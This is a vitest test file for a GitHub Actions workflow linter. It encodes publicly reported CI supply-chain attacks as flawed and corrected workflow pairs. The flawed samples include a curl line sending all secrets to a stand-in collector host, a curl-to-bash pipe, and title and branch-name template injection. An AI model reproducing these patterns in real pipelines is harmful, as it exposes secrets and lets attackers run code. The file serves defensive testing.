/**
 * Attacks that are known from public reports, each as a workflow that has its flaw, and as one that
 * does not. The workflows are written for this test from the reports; none is a copy.
 */

import { describe, expect, it } from 'vitest';

import { loadShell, pipelineFindings } from './pipeline.ts';

await loadShell();

const COMMIT = '11bd71901bbe5b1630ceea73d27597364c9af683';
const CHECKOUT = `{uses: actions/checkout@${COMMIT}, with: {persist-credentials: false}}`;

interface Attack {
  readonly name: string;
  readonly rules: readonly string[];
  readonly flawed: string;
  readonly corrected: string;
  readonly path?: string;
  readonly persona?: 'auditor';
}

/** A workflow without other flaws. Steps are in flow style, one a line. */
function workflow(on: string, steps: readonly string[], job = ''): string {
  const lines = steps.map((step) => `      - ${step}\n`).join('');
  return `name: x\non: ${on}\npermissions: {}\nconcurrency: {group: a, cancel-in-progress: true}\njobs:\n  a:\n    name: a\n    runs-on: ubuntu-24.04\n${job}    steps:\n${lines}`;
}

const ATTACKS: readonly Attack[] = [
  {
    name: 'changed-files, 2025: tags of an action were moved to code that printed secrets',
    rules: ['unpinned-uses'],
    flawed: workflow('pull_request', ['uses: tj-actions/changed-files@v45']),
    corrected: workflow('pull_request', [`uses: tj-actions/changed-files@${COMMIT}`]),
  },
  {
    name: 'action-setup of reviewdog, 2025: a composite action used a tag of another one',
    rules: ['unpinned-uses'],
    flawed: 'name: x\nruns:\n  using: composite\n  steps:\n    - uses: reviewdog/action-setup@v1\n',
    corrected: `name: x\nruns:\n  using: composite\n  steps:\n    - uses: reviewdog/action-setup@${COMMIT}\n`,
    path: '/action.yml',
  },
  {
    name: 'setup-trivy, 2026: an action that is pinned installed the newest version of its tool',
    rules: ['unpinned-tools'],
    flawed: workflow('push', [`uses: aquasecurity/setup-trivy@${COMMIT}`]),
    corrected: workflow('push', [
      `{uses: aquasecurity/setup-trivy@${COMMIT}, with: {version: v0.69.2}}`,
    ]),
  },
  {
    name: 'Ultralytics, 2024: the name of a branch was a command',
    rules: ['dangerous-triggers', 'template-injection'],
    flawed: workflow('pull_request_target', ['run: git pull origin ${{ github.head_ref }}']),
    corrected: workflow('pull_request', [
      '{run: git pull origin "$REF", env: {REF: "${{ github.head_ref }}"}}',
    ]),
  },
  {
    name: 'Nx, 2025: the title of a pull request was a command',
    rules: ['dangerous-triggers', 'template-injection'],
    flawed: workflow('{pull_request_target: {types: [edited]}}', [
      'run: node check.js "${{ github.event.pull_request.title }}"',
    ]),
    corrected: workflow('{pull_request: {types: [edited]}}', [
      "{run: 'node check.js \"$TITLE\"', env: {TITLE: '${{ github.event.pull_request.title }}'}}",
    ]),
  },
  {
    name: 'GhostAction and Shai-Hulud, 2025: a workflow sent all secrets away',
    rules: ['overprovisioned-secrets'],
    flawed: workflow('push', [
      '{run: \'curl -d "$ALL" https://collector.example\', env: {ALL: "${{ toJSON(secrets) }}"}}',
    ]),
    corrected: workflow('push', ['{run: ./deploy, env: {KEY: "${{ secrets.KEY }}"}}']),
  },
  {
    name: 'Codecov, 2021: a script that was fetched for each run was changed',
    rules: ['downloaded-script'],
    flawed: workflow('push', ['run: bash <(curl -s https://codecov.example/bash)']),
    corrected: workflow('push', [
      'run: |\n          curl -so upload https://codecov.example/bash\n          echo "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef  upload" | sha256sum -c -\n          bash upload',
    ]),
  },
  {
    name: 'ArtiPACKED, 2024: artifacts contained the token of the checkout',
    rules: ['artipacked'],
    flawed: workflow('push', [
      `uses: actions/checkout@${COMMIT}`,
      `{uses: actions/upload-artifact@${COMMIT}, with: {name: a, path: .}}`,
    ]),
    corrected: workflow('push', [
      CHECKOUT,
      `{uses: actions/upload-artifact@${COMMIT}, with: {name: a, path: .}}`,
    ]),
  },
  {
    name: 'SpotBugs, 2025: the code of a pull request ran with the rights of the repository',
    rules: ['dangerous-triggers'],
    flawed: workflow('pull_request_target', [
      `{uses: actions/checkout@${COMMIT}, with: {ref: "\${{ github.event.pull_request.head.sha }}", persist-credentials: false}}`,
      'run: ./mvnw verify',
    ]),
    corrected: workflow('pull_request', [CHECKOUT, 'run: ./mvnw verify']),
  },
  {
    name: 'PyTorch, 2023: pull requests ran on machines that stay',
    rules: ['self-hosted-runner'],
    flawed: workflow('pull_request', ['run: make']).replace('ubuntu-24.04', '[self-hosted, linux]'),
    corrected: workflow('pull_request', ['run: make']),
    persona: 'auditor',
  },
  {
    name: 'Angular, 2024: a release restored a cache that other runs had written',
    rules: ['cache-poisoning'],
    flawed: workflow('release', [
      `{uses: actions/cache@${COMMIT}, with: {path: a, key: b}}`,
      'run: make',
    ]),
    corrected: workflow('release', ['run: make']),
  },
  {
    name: 'Litestar, 2024: an artifact of a pull request became environment variables',
    rules: ['dangerous-triggers', 'github-env', 'untrusted-artifact'],
    flawed: workflow('{workflow_run: {workflows: [b], types: [completed]}}', [
      `{uses: actions/download-artifact@${COMMIT}, with: {run-id: "\${{ github.event.workflow_run.id }}"}}`,
      'run: cat pr.txt >> "$GITHUB_ENV"',
    ]),
    corrected: workflow('workflow_call', [
      `{uses: actions/download-artifact@${COMMIT}, with: {name: a}}`,
      'run: cat pr.txt',
    ]),
  },
  {
    name: 'Dependabot as a deputy, 2024: who acts last was taken for the author',
    rules: ['bot-conditions', 'dangerous-triggers'],
    flawed: workflow(
      'pull_request_target',
      ['run: make'],
      "    if: github.actor == 'dependabot[bot]'\n",
    ),
    corrected: workflow(
      'pull_request',
      ['run: make'],
      "    if: github.event.pull_request.user.login == 'dependabot[bot]'\n",
    ),
  },
  {
    name: 'CVE-2020-15228: what a program prints set variables',
    rules: ['insecure-commands'],
    flawed: workflow('push', ['{run: cat log, env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: true}}']),
    corrected: workflow('push', ['run: cat log']),
  },
  {
    name: 'Shai-Hulud, 2025: tokens of npm published packages from anywhere',
    rules: ['published-without-provenance', 'use-trusted-publishing'],
    flawed: workflow('release', [
      '{run: npm publish, env: {NODE_AUTH_TOKEN: "${{ secrets.NPM }}"}}',
    ]),
    corrected: workflow(
      'release',
      ['run: npm publish'],
      '    permissions:\n      id-token: write # publishing\n',
    ),
  },
  {
    name: 'Cline, 2026: the title of an issue reached a script of an assistant',
    rules: ['template-injection'],
    flawed: workflow('issues', [
      `{uses: actions/github-script@${COMMIT}, with: {script: 'ask("\${{ github.event.issue.title }}")'}}`,
    ]),
    corrected: workflow('issues', [
      `{uses: actions/github-script@${COMMIT}, env: {TITLE: '\${{ github.event.issue.title }}'}, with: {script: 'ask(process.env.TITLE)'}}`,
    ]),
  },
];

function found(
  text: string,
  { path = '/.github/workflows/a.yml', persona }: Attack,
): readonly string[] {
  const settings = persona === undefined ? {} : { persona };
  const rules = pipelineFindings(path, Buffer.from(text), settings).map(({ rule }) =>
    rule.replace('pipeline/', ''),
  );
  return [...new Set(rules)].sort();
}

describe('attacks of public reports', () => {
  it.each(ATTACKS.map((one) => [one.name, one] as const))('%s', (_name, attack) => {
    expect(found(attack.flawed, attack)).toEqual(attack.rules);
    expect(found(attack.corrected, attack)).toEqual([]);
  });
});
